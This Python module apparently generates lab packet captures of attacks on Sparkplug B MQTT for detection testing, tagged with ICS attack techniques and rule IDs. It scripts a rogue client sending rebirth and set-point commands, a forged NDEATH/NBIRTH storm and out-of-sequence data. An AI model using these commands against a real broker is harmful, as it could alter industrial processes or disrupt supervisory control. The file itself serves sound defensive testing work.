"""Proof captures of Sparkplug B: a command from a stranger, a state that is forged."""

from __future__ import annotations

import time

from compose.plant import sparkplug
from compose.plant.catalogue import capture
from compose.plant.lab import Lab
from compose.plant.mqtt_cell import mqtt_cell
from compose.plant.mqtt_nodes import Node
from compose.plant.proofs_mqtt import CELL, NORMAL
from compose.plant.sparkplug import BDSEQ, DEVICE, REBIRTH, Metric, payload, topic


@capture(
    "mqtt/sparkplug-rogue-command.pcap",
    "A stranger gives Sparkplug commands: rebirth by NCMD, a set-point by DCMD.",
    f"{CELL} att",
    rules="MQ12 MQ05",
    learn=NORMAL,
    check={"ip.src==10.9.1.66 && mqtt.topic contains NCMD": 1, "ip.src==10.9.1.66 && mqtt.topic contains DCMD": 1},
)
def sparkplug_rogue_command(lab: Lab) -> None:
    """One NCMD, one DCMD."""
    with mqtt_cell(lab):
        node = Node(lab, "att", "scada-x", "operator").connect()
        with lab.step("rogue NCMD", "att", "broker", ["T0855"], ["MQ12"]):
            node.publish(topic("NCMD"), payload([Metric(REBIRTH, sparkplug.BOOLEAN, True)], None))
            time.sleep(1)
        with lab.step("rogue DCMD", "att", "broker", ["T0855"], ["MQ12"]):
            order = [Metric("Level set-point", sparkplug.INT32, 3900)]
            node.publish(topic("DCMD", DEVICE), payload(order, None))
            time.sleep(1)
        node.close()


@capture(
    "mqtt/sparkplug-forged-state.pcap",
    "A stranger forges the edge node's state: NDEATH and NBIRTH again and again, and data out of sequence.",
    f"{CELL} att",
    rules="MQ12 MQ05",
    learn=NORMAL,
    check={"ip.src==10.9.1.66 && mqtt.topic contains NDEATH": 6, "ip.src==10.9.1.66 && mqtt.topic contains DDATA": 3},
)
def sparkplug_forged_state(lab: Lab) -> None:
    """Eight deaths and births, three data messages with sequence numbers that do not fit."""
    with mqtt_cell(lab) as cell:
        node = Node(lab, "att", "edge-x", "edge").connect()
        with lab.step("NDEATH and NBIRTH storm", "att", "broker", ["T0814", "T0856"], ["MQ12"]):
            for number in range(8):
                node.publish(topic("NDEATH"), payload([Metric(BDSEQ, sparkplug.UINT64, 0)], None))
                node.publish(topic("NBIRTH"), payload([Metric(BDSEQ, sparkplug.UINT64, number)], 0))
                time.sleep(0.2)
        with lab.step("sequence gap", "att", "broker", ["T0856"], ["MQ12"]):
            for sequence in (77, 12, 200):
                metrics = [metric for metric in cell.edge.device_metrics() if metric.alias == 10]
                node.publish(topic("DDATA", DEVICE), payload(metrics, sequence, False))
                time.sleep(0.4)
        node.close()
